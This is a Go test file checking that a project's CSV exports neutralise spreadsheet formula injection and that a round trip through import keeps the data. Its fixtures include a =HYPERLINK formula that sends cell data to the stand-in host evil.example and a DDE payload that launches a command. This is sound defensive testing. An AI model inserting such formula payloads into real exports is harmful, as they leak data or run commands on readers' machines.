package exchange_test

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/essaim/essaim/ent/actor"
	"github.com/essaim/essaim/ent/participation"
	"github.com/essaim/essaim/internal/exchange"
	"github.com/essaim/essaim/internal/store"
)

// TestCSVFormulaCells: spreadsheets are the users of CSV exports, and they
// run a cell starting with =, +, -, @ (or a tab or carriage return) as a
// formula (=HYPERLINK(…) sends the reader to any site, with the sheet's
// data). No exported cell may start so; the guard is undone on import, so
// the round trip still gives the same knowledge.
func TestCSVFormulaCells(t *testing.T) {
	eachPair(t, func(t *testing.T, a, b *store.Store) {
		ctx := context.Background()
		reference(t, a)
		reference(t, b)
		c := a.Client
		for _, tc := range []struct{ name, desc, source string }{
			{`=HYPERLINK("https://evil.example/?d="&A2,"Cliquez")`, "+33 1 23 45 67 89", "@SUM(1+1)"},
			{"-2+3", "=1+1", "-"},
			{"'=déjà protégé", "'texte", "''+x"},
		} {
			c.Actor.Create().SetName(tc.name).SetKind(actor.KindOTHER).SetDescription(tc.desc).SetSource(tc.source).SaveX(ctx)
		}
		evil := c.Actor.Query().Where(actor.NameHasPrefix("=HYPERLINK")).OnlyX(ctx)
		in := c.Initiative.Create().SetTitle("=cmd|' /C calc'!A0").SetSourceKey("+k").SetSummary("@x").SaveX(ctx)
		c.Participation.Create().SetActor(evil).SetInitiative(in).SetRole(participation.RoleLEAD).SaveX(ctx)
		want := dump(t, a)

		for _, kind := range []exchange.Kind{exchange.Actors, exchange.Initiatives} {
			out := exportString(t, a, kind, exchange.CSV, exchange.Filter{})
			rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff"))).ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", kind, err)
			}
			for _, row := range rows {
				for _, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						t.Errorf("%s: cell %q would run as a formula", kind, cell)
					}
				}
			}
			mustImport(t, b, kind, exchange.CSV, out)
		}
		if got := dump(t, b); got != want {
			t.Fatalf("round trip differs:\n got: %s\nwant: %s", got, want)
		}
	})
}
